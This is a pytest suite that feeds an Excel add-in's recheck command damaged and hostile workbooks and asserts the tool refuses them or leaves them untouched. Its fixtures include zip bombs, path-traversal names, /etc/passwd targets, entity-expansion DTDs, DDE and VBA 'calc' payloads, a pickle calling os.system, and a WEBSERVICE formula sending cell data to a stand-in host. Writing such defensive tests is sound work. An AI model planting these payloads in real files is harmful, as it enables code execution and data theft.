"""Workbooks of ours that come back damaged, hostile, or handled by somebody inventive.

Given to ``lac903 recheck``, which reads, validates and saves.
"""

import base64
import json
import re
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
import xlwings as xw
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.attacks.packages import Package
from tests.attacks.watching import lac903, measured, nothing_run_or_fetched, refused
from xl_addin import headless
from xl_addin.failures import EXPECTED
from xl_addin.headless.file import sheet_reading
from xl_addin.workbook.sheets.start import SETTING_CELLS

NOWHERE = "http://127.0.0.1:9/"
"""A server that a hostile file would call home to."""
DTD = b'<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]>'


def refused_untouched(path: Path, *words: str) -> None:
    """``recheck`` says one message with ``words``, and the file stays as it was."""
    before = path.read_bytes()
    refused(lac903("recheck", path), *words)
    assert path.read_bytes() == before
    assert [other.name for other in path.parent.iterdir()] == [path.name]


def rechecked(path: Path) -> None:
    """``recheck`` reads, validates and saves; the small return has errors."""
    outcome = lac903("recheck", path)
    assert outcome.code == 1, outcome
    with headless.open_book(path, read_only=True) as book:
        assert "Errors" in book.sheet_names


def edit(path: Path, sound: bytes, change: Callable[[xw.Book], object]) -> Path:
    """The sound workbook, changed as a person would in Excel."""
    path.write_bytes(sound)
    with headless.open_book(path, save=True) as book:
        change(book)
    return path


# -- the file itself -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("attack", "data", "message"),
    [
        ("nothing", b"", "is damaged or is not an Excel workbook"),
        ("text", b"CHILD,DOB\n", "is damaged or is not an Excel workbook"),
        ("a web page", b"<html><table><tr><td>1</td></tr></table></html>", "is damaged"),
        ("a password or an old format", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 99, "has a password"),
        ("a zip cut off", b"PK\x03\x04" + b"\x00" * 500, "is damaged"),
    ],
)
def test_no_workbook_at_all(path, attack, data, message):
    path.write_bytes(data)
    refused_untouched(path, message)


def test_half_of_a_workbook(path, sound):
    path.write_bytes(sound[: len(sound) // 2])
    refused_untouched(path, "is damaged")


def test_a_folder_with_the_name_of_a_workbook(path):
    path.mkdir()
    assert lac903("recheck", path).code == 2


def test_a_bomb(path, package):
    """300 MB of spaces: 300 KB in the file."""
    package["xl/media/image1.png"] = b" " * 300_000_000
    package.save(path)
    refused_untouched(path, "unpacks to far more than a workbook holds")


def test_two_parts_of_one_name(path, package):
    """One program would show the first, another one would read the second."""
    package.save(path)
    part = package.sheet("Reviews")
    with pytest.warns(UserWarning, match="Duplicate"), zipfile.ZipFile(path, "a") as archive:
        archive.writestr(part, package[part])
    refused_untouched(path, "two parts of one name")


@pytest.mark.parametrize("name", ["../../above.txt", "/tmp/lac903-absolute.txt", "C:\\a.txt"])
def test_names_that_lead_out_of_the_folder(path, package, name):
    package[name] = b"written by an attack"
    package.save(path)
    rechecked(path)
    assert [other.name for other in path.parent.iterdir()] == [path.name]
    assert not Path("/tmp/lac903-absolute.txt").exists()


@pytest.mark.parametrize("target", ["../../../../etc/passwd", "/etc/passwd", "file:///etc/passwd"])
def test_a_sheet_that_is_a_file_of_the_machine(path, package, target):
    rels = "xl/_rels/workbook.xml.rels"
    package[rels] = re.sub(
        rb'Target="[^"]*sheet5.xml"', b'Target="%s"' % target.encode(), package[rels]
    )
    package.save(path)
    refused_untouched(path)


# -- XML in the parts ------------------------------------------------------------------------------


def with_sheet_elsewhere(package: Package, name: str) -> None:
    """Move the sheet Reviews to a part of another name, with entities declared in it."""
    old = package.sheet("Reviews")
    content = package.pop(old)
    package[name] = re.sub(rb"<worksheet", DTD + b"<worksheet", content, count=1)
    for part in ("xl/_rels/workbook.xml.rels", "[Content_Types].xml"):
        package[part] = package[part].replace(old.encode(), name.encode())


def in_utf_16(package: Package) -> None:
    part = package.sheet("Reviews")
    text = re.sub(r"^<\?xml[^>]*\?>", "", package[part].decode())
    package[part] = ('<?xml version="1.0" encoding="UTF-16"?>' + DTD.decode() + text).encode(
        "utf-16"
    )


ENTITIES = {
    "in a sheet": lambda p: p.replace(p.sheet("Reviews"), b"<worksheet", DTD + b"<worksheet"),
    "in the texts": lambda p: p.replace("xl/sharedStrings.xml", b"<sst", DTD + b"<sst"),
    "in the workbook": lambda p: p.replace("xl/workbook.xml", b"<workbook", DTD + b"<workbook"),
    "in the styles": lambda p: p.replace("xl/styles.xml", b"<styleSheet", DTD + b"<styleSheet"),
    "in a relationship": lambda p: p.replace("_rels/.rels", b"<Rel", DTD + b"<Rel"),
    "in the content types": lambda p: p.replace("[Content_Types].xml", b"<Types", DTD + b"<Types"),
    "in a note": lambda p: p.replace("xl/comments/comment1.xml", b"<comments", DTD + b"<comments"),
    "behind a long comment": lambda p: p.replace(
        p.sheet("Reviews"), b"<worksheet", b"<!--" + b"<a>" * 40_000 + b"-->" + DTD + b"<worksheet"
    ),
    "behind a long instruction": lambda p: p.replace(
        p.sheet("Reviews"), b"<worksheet", b"<?x " + b"<a>" * 40_000 + b"?>" + DTD + b"<worksheet"
    ),
    "in a sheet of another name": lambda p: with_sheet_elsewhere(p, "xl/worksheets/reviews.bin"),
    "in UTF-16": in_utf_16,
    "in UTF-7": lambda p: p.replace(
        p.sheet("Reviews"),
        b"<worksheet",
        b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x><worksheet',
    ),
}


@pytest.mark.parametrize("attack", ENTITIES)
def test_entities_are_refused(path, package, attack):
    ENTITIES[attack](package)
    package.save(path)
    refused_untouched(path, "document type declaration or an unusual encoding")


BROKEN = {
    "no list of content types": lambda p: p.pop("[Content_Types].xml"),
    "no workbook in it": lambda p: p.pop("xl/workbook.xml"),
    "no texts": lambda p: p.pop("xl/sharedStrings.xml"),
    "a text that is not there": lambda p: p.add_rows(
        "Reviews", b'<row r="90"><c r="A90" t="s"><v>99999999</v></c></row>'
    ),
    "a style that is not there": lambda p: p.add_rows(
        "Reviews", b'<row r="90"><c r="A90" s="99999"><v>1</v></c></row>'
    ),
    "a number that is none": lambda p: p.add_rows(
        "Reviews", b'<row r="90"><c r="A90"><v>one</v></c></row>'
    ),
    "a cell without a place": lambda p: p.add_rows(
        "Reviews", b'<row r="90"><c r="%%%"><v>1</v></c></row>'
    ),
    "a row of minus one": lambda p: p.add_rows("Reviews", b'<row r="x"><c><v>1</v></c></row>'),
    "10,000 levels deep": lambda p: p.replace(
        "xl/styles.xml", b"<fonts", b"<a>" * 10_000 + b"</a>" * 10_000 + b"<fonts"
    ),
    "a pivot table without its cache": lambda p: p.pop("xl/pivotCache/pivotCacheDefinition1.xml"),
    "a pivot table that is no XML": lambda p: p.update({"xl/pivotTables/pivotTable1.xml": b"<a"}),
    "styles of another kind": lambda p: p.update({"xl/styles.xml": b"<html/>"}),
}


@pytest.mark.parametrize("attack", BROKEN)
def test_damage_is_told(path, package, attack):
    BROKEN[attack](package)
    package.save(path)
    refused_untouched(path, "cannot be read as a workbook", path.name)


PIECES = st.sampled_from(
    [b"", b"-1", b"99999999999999999999", b"x", b"A1:XFD1048576", b"ZZZ9999999", b"1e999", b"nan"]
)


@settings(max_examples=120, deadline=None, derandomize=True)
@given(st.data())
def test_any_part_may_be_damaged_in_any_way(tmp_path_factory, sound, data):
    package = Package.of(sound)
    for _ in range(data.draw(st.integers(1, 2))):
        part = data.draw(st.sampled_from(sorted(package)))
        damage(package, part, data)
    path = tmp_path_factory.getbasetemp() / "damaged.xlsx"
    before = package.save(path).read_bytes()
    try:
        with nothing_run_or_fetched(), headless.open_book(path, save=True):
            pass
    except EXPECTED as error:
        assert str(error)
        assert path.read_bytes() == before


def damage(package: Package, part: str, data: st.DataObject) -> None:
    content = package[part]
    kind = data.draw(st.sampled_from(["gone", "cut", "byte", "attribute", "text", "doubled"]))
    if kind == "gone":
        del package[part]
        return
    pattern = {"attribute": rb'="([^"]*)"', "text": rb">([^<]+)<", "doubled": rb"(<\w+[^<>]*/>)"}
    found = list(re.finditer(pattern[kind], content)) if kind in pattern else []
    if found:
        place = data.draw(st.sampled_from(found))
        new = place[1] * 3 if kind == "doubled" else data.draw(PIECES)
        package[part] = content[: place.start(1)] + new + content[place.end(1) :]
        return
    cut = data.draw(st.integers(0, len(content)))
    put = data.draw(st.binary(min_size=1, max_size=2)) if kind == "byte" else b""
    package[part] = content[:cut] + put + (content[cut + 1 :] if kind == "byte" else b"")


# -- what runs or calls home -----------------------------------------------------------------------


def with_macros(package: Package) -> None:
    package["xl/vbaProject.bin"] = b'Sub Auto_Open(): Shell "calc": End Sub'
    package.declare("xl/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    package.relate("xl/workbook.xml", "vbaProject", "vbaProject.bin")


def test_macros_in_a_workbook_that_is_named_xlsx(path, package):
    with_macros(package)
    package.save(path)
    refused_untouched(path, "contains macros")
    assert lac903("report", path, "-o", path.parent / "lists").code == 1  # reading is harmless


def test_macros_in_a_copy_are_kept_and_never_run(tmp_path, package):
    with_macros(package)
    package.replace(
        "[Content_Types].xml",
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    path = package.save(tmp_path / "returned.xlsm")
    rechecked(path)
    assert Package.of(path.read_bytes())["xl/vbaProject.bin"] == package["xl/vbaProject.bin"]


def hostile(package: Package, kind: str) -> None:
    package["xl/hostile.xml"] = b"<hostile/>"
    package.declare("xl/hostile.xml", "application/xml")
    package.relate("xl/workbook.xml", kind, "hostile.xml")


def test_an_excel_4_macro_sheet_is_not_saved_again(path, package):
    hostile(package, "xlMacrosheet")
    package.save(path)
    refused_untouched(path, "can only be kept by Excel itself")


@pytest.mark.parametrize(
    ("attack", "kind"),
    [("a connection to a server", "connections"), ("a data model", "powerPivotData")],
)
def test_what_calls_home_is_neither_run_nor_changed(path, package, attack, kind):
    """Excel asks before it connects, as it does for the file that came."""
    hostile(package, kind)
    package.save(path)
    rechecked(path)
    assert Package.of(path.read_bytes())["xl/hostile.xml"] == b"<hostile/>"


LINK = (
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r='
    b'"http://schemas.openxmlformats.org/officeDocument/2006/relationships">%s</externalLink>'
)


@pytest.mark.parametrize(
    ("attack", "content"),
    [
        ("another workbook on a server", b'<externalBook r:id="rIdX"/>'),
        ("a program, by DDE", b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
    ],
)
def test_links_to_outside_are_not_followed(path, package, attack, content):
    part = "xl/externalLinks/externalLink1.xml"
    package[part] = LINK % content
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    package.declare(part, kind)
    package.relate(part, "externalLinkPath", NOWHERE + "a.xlsx", "External")
    package.relate("xl/workbook.xml", "externalLink", "externalLinks/externalLink1.xml")
    package.replace(
        "xl/workbook.xml",
        b"</sheets>",
        b'</sheets><externalReferences><externalReference xmlns:r="http://schemas.openxmlformats'
        b'.org/officeDocument/2006/relationships" r:id="rIdX"/></externalReferences>',
    )
    package.save(path)
    assert lac903("recheck", path).code in (1, 2)


TYPED = [
    "=1+1",
    f'=WEBSERVICE("{NOWHERE}"&A2)',
    f'=HYPERLINK("{NOWHERE}","Click")',
    "=cmd|'/c calc'!A0",
    f"='{NOWHERE}[a.xlsx]Sheet1'!A1",
    '=INDIRECT("_settings!B1")',
    "=A2:A1048576",
    "=1/0",
]


@pytest.mark.parametrize("formula", TYPED)
def test_formulas_that_people_type(path, package, formula):
    """The result that Excel stored counts; the formula stays theirs, and stays where it is."""
    text = formula[1:].replace("&", "&amp;").replace("<", "&lt;").encode()
    cells = b"".join(
        b'<c r="%s90" t="str"><f>%s</f><v>typed</v></c>' % (column, text) for column in (b"A", b"C")
    )
    package.add_rows("Reviews", b'<row r="90">' + cells + b"</row>")
    package.save(path)
    rechecked(path)
    parts = Package.of(path.read_bytes())
    formula_of = re.compile(rb"<f[^>]*>" + re.escape(text) + rb"</f>")
    assert [name for name in parts if formula_of.search(parts[name])] == [parts.sheet("Reviews")]
    with headless.open_book(path) as book:
        found = book.sheets["Reviews"].range("A2:A90").value
        assert "typed" in found


@pytest.mark.parametrize("error", ["#N/A", "#REF!", "#NAME?", "#DIV/0!", "#SPILL!", "#MADEUP!"])
def test_error_values_count_as_what_they_show(path, package, error):
    cells = b"".join(
        b'<c r="%s90" t="e"><v>%s</v></c>' % (column, error.encode())
        for column in (b"A", b"B", b"C")
    )
    package.add_rows("Reviews", b'<row r="90">' + cells + b"</row>")
    package.save(path)
    rechecked(path)
    with headless.open_book(path) as book:
        assert (
            error in book.sheets["Errors"].range("A1").expand().options(err_to_str=True).value[-1]
        )


# -- what people do --------------------------------------------------------------------------------


def swap(one: str, other: str) -> Callable[[xw.Book], None]:
    def change(book: xw.Book) -> None:
        book.sheets[one].name = "between"
        book.sheets[other].name = one
        book.sheets["between"].name = other

    return change


PEOPLE = {
    "a table's sheet deleted": (
        lambda b: b.sheets["Reviews"].delete(),
        "The sheet Reviews is gone",
    ),
    "a table's sheet renamed": (
        lambda b: setattr(b.sheets["Reviews"], "name", "Reviews (2)"),
        "The sheet Reviews is gone",
    ),
    "two sheets swapped": (swap("Reviews", "Episodes"), "The sheet Reviews has no column DOB"),
    "a table and the errors swapped": (swap("Reviews", "Errors"), "has no column"),
    "the hidden sheets swapped": (swap("_loaded", "_settings"), "_settings"),
    "a table's sheet emptied": (lambda b: b.sheets["Reviews"].clear(), "has no column CHILD"),
    "rows put above the header": (
        lambda b: b.sheets["Reviews"].range("1:3").insert("down"),
        "must begin in cell A1",
    ),
    "a header overwritten": (
        lambda b: setattr(b.sheets["Reviews"].range("A1"), "value", "Child no."),
        "has no column CHILD",
    ),
    "the settings deleted": (lambda b: b.sheets["_settings"].delete(), "is not a 903 workbook"),
    "the settings emptied": (lambda b: b.sheets["_settings"].clear(), "is damaged"),
    "the loaded data emptied": (lambda b: b.sheets["_loaded"].clear(), "are damaged"),
    "a year that is none": (
        lambda b: setattr(b.sheets["Start"].range(SETTING_CELLS)[1], "value", "soon"),
        "must be a year such as 2027",
    ),
    "a council that is none": (
        lambda b: setattr(b.sheets["Start"].range(SETTING_CELLS)[0], "value", "Camelot"),
        "No council in England is called",
    ),
}


@pytest.mark.parametrize("attack", PEOPLE)
def test_what_people_break_is_told(path, sound, attack):
    change, message = PEOPLE[attack]
    refused_untouched(edit(path, sound, change), message)


FINE = {
    "a header twice": lambda b: setattr(b.sheets["Reviews"].range("K1"), "value", "REVIEW"),
    "a sheet hidden": lambda b: setattr(b.sheets["Reviews"], "visible", False),
    "a sheet of their own": lambda b: b.sheets.add("Notes").range("A1").value,
    "a sheet of their own named as a command": lambda b: b.sheets.add("=1+1"),
    "the list of codes deleted": lambda b: b.sheets["_lists"].delete(),
    "data merged": lambda b: b.sheets["Reviews"].range("A2:A4").merge(),
    "rows across merged": lambda b: b.sheets["Reviews"].range("A2:D2").merge(),
    "every cell of a column filled": lambda b: setattr(
        b.sheets["Reviews"].range("L1:L500"), "value", "x"
    ),
    "identities overwritten": lambda b: setattr(
        b.sheets["Reviews"].range("H2:H6"), "value", [["=1"], ["-1"], ["1e9"], ["1"], ["1"]]
    ),
    "the list of errors emptied": lambda b: b.sheets["Errors"].clear(),
    "the start sheet emptied": lambda b: b.sheets["Start"].clear(),
}


@pytest.mark.parametrize("attack", FINE)
def test_what_people_do_is_understood(path, sound, attack):
    rechecked(edit(path, sound, FINE[attack]))


def test_a_protected_sheet_is_read_and_renewed(path, package):
    package.replace(
        package.sheet("Reviews"), b"</sheetData>", b'</sheetData><sheetProtection sheet="1"/>'
    )
    package.save(path)
    rechecked(path)
    assert b"<sheetProtection" in Package.of(path.read_bytes())[package.sheet("Reviews")]


@pytest.mark.parametrize("name", ["Start", "Errors", "Errors by type", "Rules", "_loaded"])
@pytest.mark.parametrize("how", ["deleted", "renamed"])
def test_one_of_our_own_sheets_gone(path, sound, name, how):
    def change(book: xw.Book) -> None:
        if how == "deleted":
            book.sheets[name].delete()
        else:
            book.sheets[name].name = "Mine"

    assert lac903("recheck", edit(path, sound, change)).code in (1, 2)


# -- what the hidden sheets say --------------------------------------------------------------------


def loads(content: object) -> Callable[[xw.Book], None]:
    """Let the hidden sheet hold other loaded data."""
    data = content if isinstance(content, bytes) else json.dumps(content).encode()
    text = base64.b64encode(zlib.compress(data)).decode()

    def change(book: xw.Book) -> None:
        sheet = book.sheets["_loaded"]
        sheet.clear_contents()
        for row, start in enumerate(range(0, len(text), 32_000), start=1):
            sheet.range((row, 1)).value = text[start : start + 32_000]

    return change


LOADED = {
    "no table": {},
    "a list": [],
    "a number": 1,
    "nothing": None,
    "a table that is a number": {"Reviews": 1},
    "columns without values": {"Reviews": {"columns": ["CHILD"], "values": []}},
    "values that are no text": {"Reviews": {"columns": ["CHILD"], "values": [[1, None, {}]]}},
    "a column twice": {"Reviews": {"columns": ["CHILD", "CHILD"], "values": [["a"], ["b"]]}},
    "columns of unequal length": {"Reviews": {"columns": ["A", "B"], "values": [["a"], []]}},
    "one identity twice": {
        "Reviews": {"columns": ["A"], "values": [["a", "b"]], "ids": ["1", "1"]}
    },
    "not even JSON": b"__import__('os').system('calc')",
    "a pickle": b"\x80\x04\x95\x1d\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x8c\x04calc\x85R.",
    "100,000 levels deep": b"[" * 100_000,
    "no number": b'{"Reviews":{"columns":["CHILD"],"values":[[NaN,1e999]]}}',
    "20 MB of one digit": b"0" * 20_000_000,
    "a bomb of 200 MB": b" " * 200_000_000,
}


@pytest.mark.parametrize("attack", LOADED)
def test_loaded_data_that_are_not_ours(path, sound, attack):
    refused_untouched(edit(path, sound, loads(LOADED[attack])), "The loaded data", "damaged")


@pytest.mark.parametrize("text", ["AAAA", "!!!!", "=1+1", "eJwDAAAAAAE=", "x" * 32_000])
def test_loaded_data_that_are_rubbish(path, sound, text):
    def change(book: xw.Book) -> None:
        book.sheets["_loaded"].range("A1").value = text

    refused_untouched(edit(path, sound, change), "The loaded data", "damaged")


def setting(name: str, value: str) -> Callable[[xw.Book], None]:
    def change(book: xw.Book) -> None:
        sheet = book.sheets["_settings"]
        names = sheet.range("A1").expand("down").value
        sheet.range((names.index(name) + 1, 2)).value = value

    return change


@pytest.mark.parametrize("version", ["2", "99", "99999999999999999999"])
def test_a_workbook_from_the_future(path, sound, version):
    changed = edit(path, sound, setting("format_version", version))
    refused_untouched(changed, "made by a later version of lac903", "Update the program")


@pytest.mark.parametrize("name", ["year", "next_id", "format_version"])
@pytest.mark.parametrize(
    "value",
    [
        "",
        "x",
        "2027.0",
        "-1",
        "=1+1",
    ],
)
def test_settings_that_are_no_numbers(path, sound, name, value):
    assert lac903("recheck", edit(path, sound, setting(name, value))).code in (1, 2)


@pytest.mark.parametrize("name", ["authority", "last_run", "book_id"])
@pytest.mark.parametrize("value", ["", "../../x", "=1+1", "x" * 30_000])
def test_settings_of_any_text(path, sound, name, value):
    rechecked(edit(path, sound, setting(name, value)))


# -- size ------------------------------------------------------------------------------------------


def test_a_million_empty_rows_with_a_format(path, package):
    """Somebody painted whole rows, down to the end of the sheet."""
    painted = b"".join(
        b'<row r="%d" s="1" customFormat="1"/>' % row for row in range(50, 1_048_577)
    )
    package.add_rows("Reviews", painted)
    package.save(path)
    outcome = measured("report", path, "-o", path.parent / "lists")
    assert outcome.code == 1
    assert outcome.megabytes < 1_200


def test_more_cells_than_fit_into_memory(path, package, monkeypatch):
    monkeypatch.setattr(sheet_reading, "MOST_CELLS", 20_000)
    rows = (b'<row r="%d"><c s="2"/><c s="2"/></row>' % row for row in range(50, 10_000))
    package.add_rows("Reviews", b"".join(rows))
    package.save(path)
    refused_untouched(path, "more than 20,000 cells", "Delete the rows below the data")


def test_a_value_in_the_last_cell_of_the_sheet(path, package):
    package.add_rows("Reviews", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
    package.save(path)
    outcome = measured("recheck", path)
    refused(outcome, "Reviews")
    assert outcome.megabytes < 600


def test_a_value_in_the_last_row_of_the_sheet(path, package):
    package.add_rows("Reviews", b'<row r="1048576"><c r="B1048576"><v>1</v></c></row>')
    package.save(path)
    outcome = measured("report", path, "-o", path.parent / "lists")
    assert outcome.code == 1
    assert outcome.megabytes < 1_500
